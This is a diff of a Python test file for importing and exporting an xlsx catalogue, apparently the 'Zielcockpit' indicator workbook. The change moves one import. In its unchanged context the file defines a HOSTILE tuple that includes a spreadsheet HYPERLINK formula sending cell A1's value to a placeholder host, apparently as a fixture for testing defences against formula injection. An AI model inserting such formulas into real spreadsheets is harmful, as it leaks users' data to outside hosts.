@@ -16,9 +16,9 @@ from sqlalchemy import Engine, update
 
 from app.xlsx import Sheet, workbook
 from db.models import Indikator, Massnahme
-from db.queries import clear_cache
 from tests.etl.test_template import make_template, rows_of
 from zielcockpit.services.catalogue import export_workbook, import_workbook
+from zielcockpit.services.evaluation import clear_cache
 
 HOSTILE = (
     '=HYPERLINK("http://example.invalid/?x="&A1,"Klick")',
